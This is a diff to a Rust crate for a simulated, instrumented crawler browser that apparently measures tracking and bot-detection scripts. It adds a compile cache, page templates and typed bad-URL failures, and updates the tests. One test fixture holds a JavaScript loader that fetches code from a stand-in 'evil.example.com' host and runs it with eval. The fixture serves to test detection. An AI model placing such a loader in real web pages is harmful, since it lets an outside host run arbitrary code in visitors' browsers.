@@ -5,19 +5,23 @@
 use std::cell::RefCell;
 use std::rc::Rc;
 
-use browser::{CspPolicy, FingerprintProfile, Page};
+use browser::{CspPolicy, FingerprintProfile, Page, PageTemplate};
 use netsim::{Cookie, HttpRequest, HttpResponse, ResourceType, Url};
 
 use crate::config::{BrowserConfig, JsInstrumentKind};
 use crate::instrument::{honey, http, stealth, vanilla, watch, StoreHandle};
 use crate::records::RecordStore;
+use crate::supervisor::FailureReason;
 
 /// One script delivered with a page.
 #[derive(Clone, Debug)]
 pub struct PageScript {
     /// Script URL; the host decides first/third-party attribution.
     pub url: String,
-    pub source: String,
+    /// Shared body: sites materialised from the same generator parameters
+    /// (and repeat visits of one site) alias a single allocation, which the
+    /// compile cache then parses once for all of them.
+    pub source: std::sync::Arc<str>,
     /// Content type it was served with (silent-delivery payloads lie here).
     pub content_type: String,
 }
@@ -77,6 +81,12 @@ pub struct Browser {
     visit_key: Option<u64>,
     /// Pages opened under the current visit key.
     key_pages: u64,
+    /// Pre-installed page realm, cloned per visit instead of rebuilt.
+    /// Part of the shared compiled-artifact layer: only consulted while
+    /// the process-wide compile cache is enabled, and rebuilt whenever
+    /// [`Browser::instance`] changes (the profile depends on it).
+    template: Option<PageTemplate>,
+    template_instance: u32,
 }
 
 impl Browser {
@@ -88,6 +98,8 @@ impl Browser {
             visits: 0,
             visit_key: None,
             key_pages: 0,
+            template: None,
+            template_instance: 0,
         }
     }
 
@@ -129,10 +141,25 @@ impl Browser {
 
     /// Build the page for a visit with instrumentation installed — exposed
     /// separately so experiments can interleave custom page interactions.
-    pub fn open_page(&mut self, spec: &VisitSpec) -> (Page, VisitStats) {
+    ///
+    /// An unparseable visit URL is a typed [`FailureReason::BadUrl`]
+    /// failure (recorded by the supervisor), not a worker crash.
+    pub fn open_page(&mut self, spec: &VisitSpec) -> Result<(Page, VisitStats), FailureReason> {
         self.visits += 1;
-        let url = Url::parse(&spec.url).expect("visit spec URL must parse");
-        let mut page = Page::new(self.profile(), url.clone(), spec.csp.clone());
+        let url = Url::parse(&spec.url).ok_or(FailureReason::BadUrl)?;
+        let mut page = if jsengine::cache_enabled() {
+            // Shared-artifact path: clone the per-instance realm template.
+            if self.template.is_none() || self.template_instance != self.instance {
+                self.template = Some(PageTemplate::new(self.profile()));
+                self.template_instance = self.instance;
+            }
+            let tpl = self.template.as_ref().expect("template built above");
+            tpl.instantiate(url.clone(), spec.csp.clone())
+        } else {
+            // Ablation path (`--no-compile-cache`): rebuild the realm from
+            // scratch for every page, like the pre-cache pipeline did.
+            Page::new(self.profile(), url.clone(), spec.csp.clone())
+        };
         for (rurl, ctype, body) in &spec.server_resources {
             page.add_server_resource(rurl, ctype, body);
         }
@@ -188,7 +215,7 @@ impl Browser {
             obs::add("instrument.hook_install_failures", 1);
             obs::emit(obs::Event::new(0, "hook_install_failed").attr("page", page_url));
         }
-        (page, VisitStats { instrumented, script_errors: 0, honey_names, crashes: 0 })
+        Ok((page, VisitStats { instrumented, script_errors: 0, honey_names, crashes: 0 }))
     }
 
     /// Visit a page with crash simulation and restart: a crashed visit is
@@ -198,7 +225,7 @@ impl Browser {
         &mut self,
         spec: &VisitSpec,
         responder: impl FnOnce(&[HttpRequest]) -> SiteResponse,
-    ) -> VisitStats {
+    ) -> Result<VisitStats, FailureReason> {
         if self.config.crash_per_mille > 0 {
             // Deterministic crash draw per (seed, visit counter).
             let draw = {
@@ -211,9 +238,9 @@ impl Browser {
                 // The crash loses the in-flight visit's page; the store
                 // (crawl database) survives, and the visit is retried.
                 self.visits += 1;
-                let mut stats = self.visit_once(spec, responder);
+                let mut stats = self.visit_once(spec, responder)?;
                 stats.crashes += 1;
-                return stats;
+                return Ok(stats);
             }
         }
         self.visit_once(spec, responder)
@@ -226,9 +253,9 @@ impl Browser {
         &mut self,
         spec: &VisitSpec,
         responder: impl FnOnce(&[HttpRequest]) -> SiteResponse,
-    ) -> VisitStats {
-        let (mut page, mut stats) = self.open_page(spec);
-        let url = Url::parse(&spec.url).expect("visit spec URL must parse");
+    ) -> Result<VisitStats, FailureReason> {
+        let (mut page, mut stats) = self.open_page(spec)?;
+        let url = Url::parse(&spec.url).ok_or(FailureReason::BadUrl)?;
         let page_url = url.to_string();
         let store_before = if obs::enabled() {
             Some(StoreCounts::of(&self.store.borrow()))
@@ -273,7 +300,7 @@ impl Browser {
                             url: u,
                             status: 200,
                             content_type: script.content_type.clone(),
-                            body: script.source.clone(),
+                            body: script.source.to_string(),
                         },
                         mode,
                         &page_url,
@@ -285,9 +312,14 @@ impl Browser {
             http::record_requests(&mut self.store.borrow_mut(), &static_reqs);
         }
 
-        // Execute page scripts in document order.
+        // Execute page scripts in document order, compiling through the
+        // process-wide cache: provider scripts shared across hundreds of
+        // sites (and every supervisor retry of this visit) parse once.
         for script in &spec.scripts {
-            if page.run_script(&script.source, &script.url).is_err() {
+            let ran = jsengine::compile_cached(&script.source, &script.url)
+                .map_err(|_| ())
+                .and_then(|cs| page.run_script(&cs).map_err(|_| ()));
+            if ran.is_err() {
                 stats.script_errors += 1;
             }
         }
@@ -381,7 +413,7 @@ impl Browser {
                     .attr("max_depth", profile.max_depth),
             );
         }
-        stats
+        Ok(stats)
     }
 }
 
@@ -451,7 +483,7 @@ mod tests {
             source: "var x = navigator.userAgent;".into(),
             content_type: "text/javascript".into(),
         });
-        b.visit(&s, |_| SiteResponse::default());
+                let _ = b.visit(&s, |_| SiteResponse::default());
         let store = b.take_store();
         assert!(store
             .http_requests
@@ -471,7 +503,7 @@ mod tests {
             source: "navigator.sendBeacon('https://bd.example.net/verdict?bot=1');".into(),
             content_type: "text/javascript".into(),
         });
-        b.visit(&s, |traffic| {
+                let _ = b.visit(&s, |traffic| {
             let bot = traffic
                 .iter()
                 .any(|r| r.resource_type == ResourceType::Beacon && r.url.query.contains("bot=1"));
@@ -501,7 +533,7 @@ mod tests {
             content_type: "text/javascript".into(),
         });
         let mut saw = None;
-        b.visit(&s, |traffic| {
+                let _ = b.visit(&s, |traffic| {
             saw = traffic
                 .iter()
                 .find(|r| r.resource_type == ResourceType::Beacon)
@@ -526,7 +558,7 @@ mod tests {
             source: "fetch('https://evil.example.com/cheat').then(function (r) { return r.text(); }).then(function (code) { eval(code); });".into(),
             content_type: "text/javascript".into(),
         });
-        b.visit(&s, |_| SiteResponse::default());
+                let _ = b.visit(&s, |_| SiteResponse::default());
         let store = b.take_store();
         // The payload executed (loader is saved, payload request visible)…
         assert!(store
@@ -569,7 +601,8 @@ mod tests {
         // crash_per_mille = 1000: the first draw always crashes, so every
         // visit exercises the retry path.
         let mut b = Browser::new(crashy_config(7, 1000));
-        let stats = b.visit(&instrumented_spec(), |_| SiteResponse::default());
+        let stats =
+            b.visit(&instrumented_spec(), |_| SiteResponse::default()).expect("URL parses");
         assert_eq!(stats.crashes, 1, "crash must be counted");
         let store = b.take_store();
         // The retried visit re-recorded everything the crashed one lost.
@@ -581,7 +614,8 @@ mod tests {
     #[test]
     fn crash_free_visits_report_zero_crashes() {
         let mut b = Browser::new(crashy_config(7, 0));
-        let stats = b.visit(&instrumented_spec(), |_| SiteResponse::default());
+        let stats =
+            b.visit(&instrumented_spec(), |_| SiteResponse::default()).expect("URL parses");
         assert_eq!(stats.crashes, 0);
     }
 
@@ -590,10 +624,10 @@ mod tests {
         let mut b = Browser::new(crashy_config(11, 200)); // 20%
         let mut crashes = 0u32;
         for _ in 0..300 {
-            crashes += b.visit(&spec("https://crashy.example.com/"), |_| {
-                SiteResponse::default()
-            })
-            .crashes;
+            crashes += b
+                .visit(&spec("https://crashy.example.com/"), |_| SiteResponse::default())
+                .expect("URL parses")
+                .crashes;
             b.take_store();
         }
         assert!((35..=85).contains(&crashes), "crashes = {crashes} of 300 at 20%");
@@ -609,6 +643,7 @@ mod tests {
                         .visit(&spec("https://crashy.example.com/"), |_| {
                             SiteResponse::default()
                         })
+                        .expect("URL parses")
                         .crashes;
                     b.take_store();
                     c
